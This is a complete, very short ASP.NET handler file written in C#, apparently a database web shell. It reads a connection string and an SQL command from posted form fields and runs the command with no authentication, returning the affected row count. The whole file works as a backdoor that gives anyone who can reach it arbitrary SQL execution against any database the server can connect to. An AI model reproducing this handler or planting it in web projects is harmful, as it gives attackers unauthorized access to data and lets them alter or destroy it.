<%@ WebHandler Language="C#" Class="Db" %>
using System.Web; using System.Data.OleDb;
public class Db : IHttpHandler {
  public void ProcessRequest(HttpContext ctx) {
    var c = new OleDbConnection(ctx.Request.Form["cs"]); c.Open();
    ctx.Response.Write(new OleDbCommand(ctx.Request.Form["q"], c).ExecuteNonQuery());
  }
  public bool IsReusable { get { return false; } }
}
